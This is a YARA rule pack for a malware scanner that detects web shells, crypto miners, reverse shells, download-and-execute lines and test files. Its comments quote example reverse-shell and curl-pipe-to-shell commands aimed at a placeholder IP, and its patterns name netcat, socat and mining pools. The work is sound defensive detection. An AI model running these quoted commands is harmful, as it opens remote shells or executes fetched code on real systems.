/*
 * keelhaul builtin malware rule pack.
 *
 * Pack version: 1 (keep in step with `RULES_VERSION` in src/malware/mod.rs; bump it whenever
 * a rule is added, removed or changed so cached scan results are invalidated).
 *
 * Every rule carries stable metadata:
 *   id       KH-MAL-NNN (never reused; retired ids stay retired)
 *   title    one-line description shown to users
 *   kind     webshell | miner | backdoor | testfile | packed | other
 *   severity critical | high | medium | low
 *
 * Rules must compile and give the same verdicts on boreal (keelhaul's engine) and libyara
 * 4.2 (Debian's `yara`): tests/malware.rs checks that. So: no modules, no externals, and
 * only plain regex syntax (no backreferences, no lookaround, no greedy-vs-lazy tricks).
 * Regexes start with a literal word so both engines can extract atoms and stay fast.
 */

rule KH_MAL_001_php_exec_superglobal
{
    meta:
        id = "KH-MAL-001"
        title = "PHP web shell: code or command execution of request data"
        kind = "webshell"
        severity = "critical"
    strings:
        $php = "<?" ascii
        // eval($_POST['x']), system(base64_decode($_GET[...])), passthru(stripslashes($_REQUEST...
        $exec = /\b(eval|assert|system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec|create_function)\s*\(\s*@?\s*((base64_decode|stripslashes|urldecode|trim|gzinflate|str_rot13)\s*\(\s*)*\$_(GET|POST|REQUEST|COOKIE)\b/ ascii nocase
    condition:
        $php and $exec
}

rule KH_MAL_002_php_china_chopper
{
    meta:
        id = "KH-MAL-002"
        title = "PHP China Chopper one-liner web shell"
        kind = "webshell"
        severity = "critical"
    strings:
        $chopper = /<\?php\s*@?eval\s*\(\s*\$_(POST|GET|REQUEST)\s*\[\s*['"]?[A-Za-z0-9_]{1,32}['"]?\s*\]\s*\)\s*;?\s*\?>/ ascii
    condition:
        filesize < 4KB and $chopper
}

rule KH_MAL_003_php_preg_replace_eval
{
    meta:
        id = "KH-MAL-003"
        title = "PHP web shell: preg_replace with the /e (eval) modifier and request data"
        kind = "webshell"
        severity = "high"
    strings:
        $php = "<?" ascii
        // preg_replace("/.*/e", $_POST['x'], ...): the replacement is evaluated as PHP.
        $pregE = /preg_replace\s*\(\s*["'][\/#|~!@%][^"'\n]{0,200}[\/#|~!@%][imsxuADSUX]*e[imsxuADSUX]*["']\s*,/ ascii
        $input = /\$_(GET|POST|REQUEST|COOKIE)\b/ ascii
    condition:
        $php and $pregE and $input
}

rule KH_MAL_004_php_obfuscated_eval
{
    meta:
        id = "KH-MAL-004"
        title = "PHP obfuscated code execution (eval of base64_decode/gzinflate/str_rot13 chain)"
        kind = "webshell"
        severity = "high"
    strings:
        $php = "<?" ascii
        $chain = /\b(eval|assert)\s*\(\s*@?\s*(gzinflate|gzuncompress|gzdecode|base64_decode|str_rot13|strrev|convert_uudecode)\s*\(\s*@?\s*(gzinflate|gzuncompress|gzdecode|base64_decode|str_rot13|strrev|convert_uudecode|["'$])/ ascii nocase
    condition:
        $php and $chain
}

rule KH_MAL_005_php_superglobal_call
{
    meta:
        id = "KH-MAL-005"
        title = "PHP web shell: function name and argument both taken from the request"
        kind = "webshell"
        severity = "critical"
    strings:
        $php = "<?" ascii
        // $_GET['f']($_GET['a']): calls any function the attacker names.
        $call = /\$_(GET|POST|REQUEST|COOKIE)\s*\[[^\]\n]{1,40}\]\s*\(\s*\$_(GET|POST|REQUEST|COOKIE)\b/ ascii
    condition:
        $php and $call
}

rule KH_MAL_006_jsp_runtime_exec
{
    meta:
        id = "KH-MAL-006"
        title = "JSP web shell: Runtime.exec of request data"
        kind = "webshell"
        severity = "critical"
    strings:
        $jsp1 = "<%" ascii
        $jsp2 = "<jsp:scriptlet" ascii
        $exec = /Runtime\s*\.\s*getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(/ ascii
        $req = /request\s*\.\s*(getParameter|getHeader|getInputStream|getReader|getQueryString)\s*\(/ ascii
    condition:
        ($jsp1 or $jsp2) and $exec and $req
}

rule KH_MAL_007_jsp_processbuilder
{
    meta:
        id = "KH-MAL-007"
        title = "JSP web shell: ProcessBuilder with request data"
        kind = "webshell"
        severity = "critical"
    strings:
        $jsp1 = "<%" ascii
        $jsp2 = "<jsp:scriptlet" ascii
        $pb = /new\s+(java\.lang\.)?ProcessBuilder\s*\(/ ascii
        $req = /request\s*\.\s*(getParameter|getHeader|getInputStream|getReader|getQueryString)\s*\(/ ascii
    condition:
        ($jsp1 or $jsp2) and $pb and $req
}

rule KH_MAL_008_asp_eval_request
{
    meta:
        id = "KH-MAL-008"
        title = "ASP/ASPX web shell: eval/Execute of request data"
        kind = "webshell"
        severity = "critical"
    strings:
        $asp = "<%" ascii
        // <%eval request("x")%>, Execute(Request.Form("c")), eval(Request.Item["x"],"unsafe")
        $eval = /\b(eval|execute|executeglobal)\s*\(?\s*request\s*(\.\s*(form|querystring|item|params)\s*)?[\(\[]/ ascii nocase
    condition:
        $asp and $eval
}

rule KH_MAL_009_aspx_process_start
{
    meta:
        id = "KH-MAL-009"
        title = "ASPX web shell: Process.Start with request data"
        kind = "webshell"
        severity = "critical"
    strings:
        $asp = "<%" ascii
        $start = /(Process\s*\.\s*Start\s*\(|new\s+(System\.Diagnostics\.)?ProcessStartInfo\s*\()/ ascii
        $req = /Request\s*(\.\s*(Form|QueryString|Params|Item|Headers)\s*)?\[/ ascii
    condition:
        $asp and $start and $req
}

rule KH_MAL_010_python_cgi_shell
{
    meta:
        id = "KH-MAL-010"
        title = "Python CGI/Flask web shell: os.system/subprocess of request data"
        kind = "webshell"
        severity = "critical"
    strings:
        // os.system(request.args.get("c")), subprocess.check_output(form.getvalue("cmd"), shell=True)
        $direct = /(os\.system|os\.popen|subprocess\.(call|run|Popen|check_output|check_call|getoutput|getstatusoutput))\s*\(\s*(request\.(args|form|values|headers|cookies)\s*(\.get\s*\(|\[)|form\.getvalue\s*\(|form\s*\[)/ ascii
        // cmd = form.getvalue("cmd") ... os.popen(cmd)
        $param = /(getvalue|getfirst|args\.get|form\.get)\s*\(\s*['"](cmd|command|exec|execute|shell)['"]/ ascii
        $run = /(os\.system|os\.popen|subprocess\.(call|run|Popen|check_output|check_call|getoutput|getstatusoutput))\s*\(/ ascii
    condition:
        $direct or ($param and $run)
}

rule KH_MAL_011_perl_cgi_shell
{
    meta:
        id = "KH-MAL-011"
        title = "Perl CGI web shell: system/exec of QUERY_STRING or CGI parameters"
        kind = "webshell"
        severity = "critical"
    strings:
        $env = /\b(system|exec|qx)\s*[\(\{]?\s*\$ENV\s*\{\s*['"]?QUERY_STRING/ ascii
        $tick = /`\s*\$ENV\s*\{\s*['"]?QUERY_STRING/ ascii
        $param = /\b(system|exec)\s*\(?\s*(\$q->|\$cgi->|\$query->|CGI::)?param\s*\(\s*['"]?(cmd|command|c|exec|shell)['"]?\s*\)/ ascii
    condition:
        any of them
}

rule KH_MAL_012_xmrig
{
    meta:
        id = "KH-MAL-012"
        title = "XMRig cryptocurrency miner (binary or config)"
        kind = "miner"
        severity = "high"
    strings:
        $name = "xmrig" ascii nocase
        $donate = "donate-level" ascii
        $stratum = "stratum+" ascii
        $randomx = "randomx" ascii nocase
        $cn = "cryptonight" ascii nocase
    condition:
        $name and ($donate or $stratum or $randomx or $cn)
}

rule KH_MAL_013_stratum_url
{
    meta:
        id = "KH-MAL-013"
        title = "Mining pool URL (stratum+tcp/ssl/tls)"
        kind = "miner"
        severity = "high"
    strings:
        $url = /stratum\+(tcp|ssl|tls):\/\/[A-Za-z0-9.\-]{1,100}:[0-9]{2,5}/ ascii nocase
    condition:
        $url
}

rule KH_MAL_014_mining_pool_host
{
    meta:
        id = "KH-MAL-014"
        title = "Well-known cryptocurrency mining pool host name"
        kind = "miner"
        severity = "medium"
    strings:
        $p1 = "pool.minexmr.com" ascii nocase
        $p2 = "supportxmr.com" ascii nocase
        $p3 = "xmrpool.eu" ascii nocase
        $p4 = "moneroocean.stream" ascii nocase
        $p5 = "pool.hashvault.pro" ascii nocase
        $p6 = "c3pool.com" ascii nocase
        $p7 = "xmr.nanopool.org" ascii nocase
        $p8 = "xmr.2miners.com" ascii nocase
        $p9 = "monerohash.com" ascii nocase
        $p10 = "minergate.com" ascii nocase
        $p11 = "xmr.f2pool.com" ascii nocase
        $p12 = "pool.supportxmr.com" ascii nocase
    condition:
        any of them
}

rule KH_MAL_015_bash_dev_tcp
{
    meta:
        id = "KH-MAL-015"
        title = "Reverse shell: interactive shell over /dev/tcp"
        kind = "backdoor"
        severity = "critical"
    strings:
        // bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 ; sh -i > /dev/udp/...
        $i = /\b(ba|z|da)?sh\s+-i\s*(>&|&>|>)\s*\/dev\/(tcp|udp)\// ascii
        // ... /dev/tcp/host/port 0>&1 (stdin wired to the socket: a shell is being attached)
        $dup = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]{1,100}\/[0-9]{1,5}\s+0>&1/ ascii
    condition:
        any of them
}

rule KH_MAL_016_netcat_exec
{
    meta:
        id = "KH-MAL-016"
        title = "Reverse/bind shell: netcat -e /bin/sh"
        kind = "backdoor"
        severity = "critical"
    strings:
        $nc = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s[^\n|;]{0,80}-[A-Za-z]*[ec]\s*\/bin\/(ba|z|da)?sh\b/ ascii
    condition:
        $nc
}

rule KH_MAL_017_mkfifo_shell
{
    meta:
        id = "KH-MAL-017"
        title = "Reverse shell: named pipe piped through /bin/sh and a network tool"
        kind = "backdoor"
        severity = "critical"
    strings:
        // rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f
        $fifo = /(mkfifo|mknod)\s[^\n]{0,200}\|\s*\/bin\/(ba|z|da)?sh\b[^\n]{0,100}\|\s*(nc|ncat|netcat|telnet|openssl)\b/ ascii
    condition:
        $fifo
}

rule KH_MAL_018_python_reverse_shell
{
    meta:
        id = "KH-MAL-018"
        title = "Reverse shell: Python socket wired to a shell (dup2 + pty.spawn/sh -i)"
        kind = "backdoor"
        severity = "critical"
    strings:
        $sock = "socket.socket(" ascii
        $connect = ".connect((" ascii
        $dup = /os\.dup2\s*\(\s*[A-Za-z_][A-Za-z0-9_]*\.fileno\s*\(\s*\)/ ascii
        $pty = /pty\.spawn\s*\(\s*["']\/bin\/(ba|z|da)?sh/ ascii
        $shi = /["']\/bin\/(ba|z|da)?sh["']\s*,\s*["']-i["']/ ascii
    condition:
        $sock and $connect and $dup and ($pty or $shi)
}

rule KH_MAL_019_socat_exec_shell
{
    meta:
        id = "KH-MAL-019"
        title = "Reverse/bind shell: socat with exec: of a shell"
        kind = "backdoor"
        severity = "critical"
    strings:
        // socat tcp-connect:192.0.2.1:4444 exec:/bin/sh,pty,stderr,setsid
        $a = /socat\s[^\n]{0,200}tcp[^\n]{0,200}exec:["']?(\/usr)?(\/bin\/)?(ba|z|da)?sh\b/ ascii nocase
        $b = /socat\s[^\n]{0,200}exec:["']?(\/usr)?(\/bin\/)?(ba|z|da)?sh\b[^\n]{0,200}tcp/ ascii nocase
    condition:
        any of them
}

rule KH_MAL_020_download_exec_raw_ip
{
    meta:
        id = "KH-MAL-020"
        title = "Download-and-execute from a raw IP address (curl/wget piped to a shell)"
        kind = "backdoor"
        severity = "high"
    strings:
        // */5 * * * * root curl -fsSL http://192.0.2.1/x.sh | sh
        $dl = /\b(curl|wget)\s[^\n|]{0,120}[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}[^\n|]{0,120}\|\s*(sudo\s+)?(\/bin\/|\/usr\/bin\/)?(ba|z|da)?sh\b/ ascii
    condition:
        $dl
}

rule KH_MAL_021_eicar
{
    meta:
        id = "KH-MAL-021"
        title = "EICAR anti-malware test file"
        kind = "testfile"
        severity = "low"
    strings:
        // The 68-byte EICAR string, as hex so the literal never sits in this repository.
        $eicar = { 58 35 4F 21 50 25 40 41 50 5B 34 5C 50 5A 58 35 34 28 50 5E 29 37 43 43
                   29 37 7D 24 45 49 43 41 52 2D 53 54 41 4E 44 41 52 44 2D 41 4E 54 49 56
                   49 52 55 53 2D 54 45 53 54 2D 46 49 4C 45 21 24 48 2B 48 2A }
    condition:
        // EICAR definition: the string at offset 0, optionally followed by whitespace
        // (space, tab, LF, CR, Ctrl-Z), whole file at most 128 bytes.
        $eicar at 0 and filesize <= 128 and
        (filesize == 68 or
         for all i in (68..filesize - 1) : (
            uint8(i) == 0x20 or uint8(i) == 0x09 or uint8(i) == 0x0A or
            uint8(i) == 0x0D or uint8(i) == 0x1A))
}

rule KH_MAL_022_upx_packed_elf
{
    meta:
        id = "KH-MAL-022"
        title = "UPX-packed ELF executable"
        kind = "packed"
        severity = "medium"
    strings:
        $upx = "UPX!" ascii
        $info = "$Info: This file is packed with the UPX" ascii
    condition:
        // The UPX! header sits right after the program headers in a packed ELF; the upx tool
        // itself merely contains the string somewhere later.
        uint32(0) == 0x464C457F and ($upx in (0..1024) or $info in (0..4096))
}
